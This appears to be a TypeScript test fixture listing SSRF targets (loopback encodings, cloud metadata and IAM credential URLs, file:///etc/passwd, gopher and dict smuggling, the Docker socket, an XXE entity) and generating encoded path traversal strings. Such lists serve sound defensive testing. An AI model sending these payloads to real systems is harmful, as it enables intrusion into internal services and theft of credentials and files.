// Targets of SSRF and path traversal attacks.

/** Hosts and services that only the server can reach, in spellings that bypass host name checks. */
export const ADDRESSES: readonly string[] = [
  'http://127.0.0.1:22/',
  'http://127.1/',
  'http://0.0.0.0/',
  'http://0/',
  'http://2130706433/',
  'http://0x7f000001/',
  'http://0177.0.0.1/',
  'http://localhost:5432/',
  'http://localhost.localdomain/',
  'http://[::1]/',
  'http://[::ffff:127.0.0.1]/',
  'http://[0:0:0:0:0:ffff:7f00:1]/',
  'http://169.254.169.254/latest/meta-data/iam/',
  'http://[fd00:ec2::254]/latest/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'http://100.100.100.200/latest/meta-data/',
  'http://10.0.0.1/',
  'http://192.168.0.1/admin',
  'http://172.16.0.1/',
  'https://127.0.0.1.nip.example/',
  'https://evil.example@127.0.0.1/',
  'https://127.0.0.1#@good.example/',
  'https://good.example\\@127.0.0.1/',
  '//127.0.0.1/',
  'file:///etc/passwd',
  'file://localhost/etc/passwd',
  'ftp://127.0.0.1/',
  'gopher://127.0.0.1:25/_HELO',
  'dict://127.0.0.1:11211/stats',
  'ldap://127.0.0.1/',
  'jar:http://127.0.0.1!/',
  'unix:/var/run/docker.sock',
  'https://xn--evil-.example/a.svg',
  '<img src="http://127.0.0.1/x.png">',
  '<link rel="stylesheet" href="http://127.0.0.1/x.css">',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1/x.png"/></svg>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1/">]><svg>&e;</svg>',
];

/** Relative and encoded paths from the server's files to one it must never reveal. */
export const pathsTo = (file: string, levels = 6): readonly string[] => {
  const name = file.split('/').at(-1) ?? file;
  const up = Array.from({ length: levels }, (_, n) => '../'.repeat(n + 1) + name);
  const deepest = '../'.repeat(levels) + name;
  return [
    ...up,
    file,
    `file://${file}`,
    `//${file}`,
    `.${file}`,
    `%2e%2e%2f${name}`,
    `..%2f..%2f${name}`,
    `%252e%252e%252f${name}`,
    `..%5c..%5c${name}`,
    `..\\..\\${name}`,
    `....//....//${name}`,
    `..;/${name}`,
    `..%c0%af${name}`,
    `${deepest}%00.pdf`,
    `files/${deepest}`,
    `a/../${deepest}`,
  ];
};
